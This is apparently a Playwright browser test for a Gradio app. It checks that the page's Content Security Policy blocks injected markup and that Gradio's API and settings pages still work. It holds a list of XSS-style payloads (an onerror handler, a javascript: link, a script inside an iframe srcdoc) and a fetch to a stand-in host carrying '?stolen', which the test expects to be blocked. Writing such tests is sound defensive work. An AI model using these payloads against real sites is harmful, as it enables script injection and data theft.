"""What the page's policy forbids does not happen in a real browser, and what gradio's page offers works under it."""

import re

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.pages import PATIENT, open_page
from tests.conftest import Server

pytestmark = [pytest.mark.browser, pytest.mark.slow]

# What a text that became markup could do, each with what forbids it.
ATTEMPTS = {
    "<img src='data:image/png;base64,x' onerror='window.ran = 1'>": "script-src-attr",
    "<a href='javascript:window.ran = 1'>x</a>": "script-src-elem",
    "<img src='https://elsewhere.example/x.png'>": "img-src",
    "<iframe src='/'></iframe>": "frame-src",
    "<object data='/theme.css'></object>": "object-src",
    "<form action='https://elsewhere.example/'></form>": "form-action",
    "<link rel='stylesheet' href='https://elsewhere.example/x.css'>": "style-src-elem",
    "<p style='background: url(https://elsewhere.example/x.png)'>x</p>": "img-src",
    "<audio src='https://elsewhere.example/x.wav'></audio>": "media-src",
}


def test_markup_that_got_into_the_page_would_run_and_load_nothing(browser: Browser, app: Server) -> None:
    page = browser.new_page()
    page.goto(app.url)
    expect(page.get_by_role("tab", name="Run a model")).to_be_visible(timeout=PATIENT)
    page.evaluate(
        "window.broken = []; addEventListener('securitypolicyviolation', e => broken.push(e.effectiveDirective))"
    )
    for markup, directive in ATTEMPTS.items():
        page.evaluate(
            """markup => {
                broken.length = 0;
                document.querySelector('gradio-app').insertAdjacentHTML('beforeend', markup);
                const made = document.querySelector('gradio-app').lastElementChild;
                if (made.matches('form')) made.submit();
                else if (made.matches('a')) made.click();
            }""",
            markup,
        )
        page.wait_for_function("broken.length")
        assert page.evaluate("broken") == [directive], markup
    frame = "<iframe srcdoc='<script>parent.ran = 1</script><p>drawn</p>'></iframe>"
    page.evaluate("markup => document.querySelector('gradio-app').insertAdjacentHTML('beforeend', markup)", frame)
    page.wait_for_function("document.querySelector('iframe[srcdoc]').contentDocument?.querySelector('p')")
    # As gradio makes the elements of a head: only those whose hash the server named run.
    page.evaluate("""() => {
        const made = document.createElement('script');
        made.textContent = 'window.ran = 1';
        document.head.append(made);
    }""")
    assert page.evaluate("window.ran") is None
    sent = "url => fetch(url).then(() => 'sent', () => 'not sent')"
    assert page.evaluate(sent, "https://elsewhere.example/?stolen") == "not sent"
    assert page.evaluate("broken.at(-1)") == "connect-src"
    page.close()


def test_gradios_own_pages_of_the_api_and_of_settings_work_under_the_policy(browser: Browser, app: Server) -> None:
    page = open_page(browser, app)
    page.get_by_role("button", name="Use via API").click()
    expect(page.get_by_text("MCP Server URL")).to_be_visible(timeout=PATIENT)
    page.locator(".snippet").filter(has_text=re.compile("Python$")).click()
    expect(page.get_by_text("/text_classification", exact=True).first).to_be_visible(timeout=PATIENT)
    page.goto(app.url)
    page.get_by_role("button", name="Settings").click()
    expect(page.get_by_text("Display Theme").first).to_be_visible(timeout=PATIENT)
    page.close()
